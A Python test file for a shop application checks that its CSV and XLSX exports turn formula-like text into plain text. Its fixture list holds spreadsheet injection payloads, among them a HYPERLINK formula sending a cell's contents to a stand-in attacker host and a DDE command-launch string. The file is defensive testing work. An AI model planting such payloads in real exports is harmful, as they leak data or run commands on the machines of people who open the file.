"""No export writes a formula: text starting with = + - @, a tab or a carriage return is written as text, and
stays readable, in every CSV (a leading apostrophe) and XLSX (a text cell) the shop produces."""
import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from shop.certification import imports as certificate_imports
from shop.core.tabular import safe_cell, workbook_bytes

MALICIOUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def assert_no_formula(content: bytes, expected_text: list[str] = ()) -> None:
    """Shared by the exporters' tests: no cell of any sheet is a formula, and each expected text is shown."""
    workbook = load_workbook(io.BytesIO(content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    for text in expected_text:
        shown = text.replace("\r", "\n")  # XML keeps no carriage return: it reads back as a line feed
        assert shown in values, f"{text!r} is not shown as it was written"


def assert_csv_has_no_formula(content: bytes, expected_text: list[str] = ()) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"CSV cell {cell!r} would run as a formula"
    for text in expected_text:
        assert "'" + text in cells, f"{text!r} is not kept (after its apostrophe)"


@pytest.mark.parametrize("text", MALICIOUS)
def test_text_that_would_run_is_quoted_for_csv(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Trà xanh", "Điểm OCOP = nơi bán", 42, -5, 1.5, None, ""])
def test_other_values_are_left_as_they_are(value):
    assert safe_cell(value) == value  # negative numbers stay numbers: only text is quoted


def test_an_xlsx_saved_through_the_helper_holds_the_text_and_no_formula():
    workbook = Workbook()
    workbook.active.append(MALICIOUS)
    assert load_workbook(io.BytesIO(_plain_save(workbook))).active["A1"].data_type == "f", \
        "openpyxl alone would write a formula (the test would prove nothing)"
    assert_no_formula(workbook_bytes(workbook), MALICIOUS)


def _plain_save(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_the_certificate_import_templates_hold_no_formula(app_ctx):
    assert_no_formula(certificate_imports.template_xlsx())
    assert_csv_has_no_formula(certificate_imports.template_csv())
